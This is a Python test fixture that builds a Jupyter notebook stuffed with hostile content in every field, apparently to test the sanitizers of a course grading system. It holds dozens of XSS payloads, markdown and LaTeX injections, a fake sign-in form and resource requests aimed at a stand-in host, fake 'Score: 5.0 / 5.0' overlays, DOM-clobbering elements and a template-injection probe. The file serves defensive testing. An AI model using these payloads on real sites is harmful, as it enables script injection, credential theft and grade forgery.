"""What a submission may hold to harm whoever opens a page, in every field that a page shows.

Each entry tries to run a script, which would leave the word `RAN` in the window, to ask another
site, to lead there, or to change what the page around it says. Gathered from the corpora of the
well-known sanitizers, and from what each of this course's renderers writes by itself.
"""

import base64

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RUN = "window.RAN=1;top.RAN=1"
CODED = base64.b64encode(f"<svg onload={RUN}>".encode()).decode()
AWAY = "http://stolen.example/"

HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x oneonerrorrror={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"</textarea></title></style></script><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<div contenteditable tabindex=0 autofocus onfocus={RUN}>x</div>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='{AWAY}frame'></iframe>",
    f"<frameset onload={RUN}>",
    f"<a class=lure href='javascript:{RUN}'>x</a>",
    f"<a class=lure href='java&#x09;script:{RUN}'>x</a>",
    f"<a class=lure href='&#106;avascript:{RUN}'>x</a>",
    f"<a class=lure href=' \x01javascript:{RUN}'>x</a>",
    f"<a class=lure href='data:text/html,<script>{RUN}</script>'>x</a>",
    "<a href='/logout'>x</a><img src='/logout'>",
    f"<a ping='{AWAY}ping' href='#'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<form action='{AWAY}form'><input type=password name=p><button>Sign in</button></form>",
    f"<button form=f formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;url={AWAY}refresh'>",
    f"<base href='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}style'>",
    f"<style>@import '{AWAY}import'; h4 {{ display: none }}</style>",
    f"<img src='{AWAY}pixel'>",
    f"<img srcset='{AWAY}srcset 1x'>",
    f"<picture><source srcset='{AWAY}source'><img></picture>",
    f"<video poster='{AWAY}poster'></video>",
    f"<table background='{AWAY}table'><tr><td background='{AWAY}td'>x</table>",
    f"<input type=image src='{AWAY}input'>",
    f"<div style='background:url({AWAY}url)'>x</div>",
    f"<span style='color:red;background-color:url({AWAY}colour)'>x</span>",
    "<div style='position:fixed;inset:0;z-index:9999;background:white'>Score: 5.0 / 5.0</div>",
    "<span style='position:fixed;inset:0;z-index:9999;background:white'>Score: 5.0 / 5.0</span>",
    "<div class='modal in navbar-fixed-top panel-heading score'>Score: 5.0 / 5.0</div>",
    "</div></div></div></div></div></div></body></html><h4>Score: 5.0 / 5.0</h4>",
    "<a id=MathJax name=base_url></a><form id=submission_id name=body></form>",
    "<img name=getElementById><a name=top></a>",
    f"<map name=m><area coords=0,0,999,999 href='javascript:{RUN}'></map><img usemap=#m>",
    f"<img src='data:image/svg+xml;base64,{CODED}'><img src='data:text/html;base64,{CODED}'>",
    f"{{{{ cycler.__init__.__globals__ }}}}{{% raw %}}<img src=x onerror={RUN}>",
    "<plaintext>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    f"![x]({AWAY}markdown)",
    f'[x]({AWAY} "\\" onmouseover={RUN} ")',
    f'# "><img src=x onerror={RUN}>',
    f'```"><img/src=x/onerror={RUN}>\nx\n```',
    f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
    f"|<img src=x onerror={RUN}>|\n|:-|\n|<script>{RUN}</script>|",
    f"$<img src=x onerror={RUN}>$ and $$</div><script>{RUN}</script>$$",
    f"\\begin{{x}}<img src=x onerror={RUN}>\\end{{x}}",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\require{{html}}\\class{{modal}}{{x}}$",
    "$\\style{position:fixed;inset:0;background:white}{\\text{Score: 5.0 / 5.0}}$",
    "$\\bbox[background:url(/logout)]{x}$ $\\unicode[x;background:url(/logout)]{65}$",
    '$\\mmlToken{mi}[href="javascript:top.RAN=1" style="position:fixed;inset:0"]{x}$',
    "$\\raise 900px{\\rlap{\\text{Score: 5.0 / 5.0}}}\\kern-900px x\\rule{9000px}{9000px}$",
    f'![x](attachment:a.png) ![x](attachment:b.html) ![x](attachment:"onerror={RUN}.png)',
    f"<{AWAY}auto> and javascript:{RUN}",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
]
EVERY = HTML + MARKDOWN


def fields(text: str, name: str, mark: dict) -> list:
    """Cells that hold a text in every field that a notebook has."""
    markdown = new_markdown_cell(text, id=f"m-{name}")
    markdown["attachments"] = {
        "a.png": {"image/png": f'"><img src=x onerror={RUN}>', text: text},
        "b.html": {"text/html": text},
        text: {"image/svg+xml": text},
    }
    raw = new_raw_cell(text, id=f"r-{name}")
    raw.metadata["raw_mimetype"] = "text/html"
    images = {
        f"image/{kind}": {"width": text, "height": text, "alt": text} for kind in ("png", "jpeg")
    }
    outputs = [
        new_output("stream", name="stdout", text=text),
        new_output("stream", name="stderr", text=f"\x1b[31m{text}\x1b[0m"),
        new_output("error", ename=text, evalue=text, traceback=[text, f"\x1b[1m{text}"]),
    ]
    for kind in (
        "text/html text/markdown text/latex text/plain image/svg+xml image/png image/jpeg "
        "application/javascript application/vnd.jupyter.widget-view+json text/vnd.mermaid"
    ).split():
        outputs += [
            new_output(form, {kind: text}, metadata=images | {kind: {"isolated": True}})
            for form in ("display_data", "execute_result")
        ]
    code = new_code_cell(text, id=f"c-{name}", outputs=outputs)
    code.metadata |= {"tags": [text.replace(",", " ")], "alt": text, "magics_language": text}
    code.metadata["nbgrader"] = mark | {"comment": text}
    return [markdown, raw, code]


def notebook(texts: list[str] = EVERY) -> nbformat.NotebookNode:
    """A graded copy as nobody should have written it: hostile in all that a page could show."""
    cells = []
    for number, text in enumerate(texts):
        mark = {"grade_id": f"{number}{text}", "grade": True, "solution": True, "locked": False}
        mark |= {"task": False, "points": 1, "score": 0, "schema_version": 3}
        cells += fields(text, str(number), mark)
    text = "".join(texts)
    metadata = {
        "title": text,
        "kernelspec": {"name": text, "display_name": text, "language": text},
        "language_info": {"name": text, "pygments_lexer": text, "mimetype": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": text}},
    }
    return nbformat.from_dict({**new_notebook(), "cells": cells, "metadata": metadata})
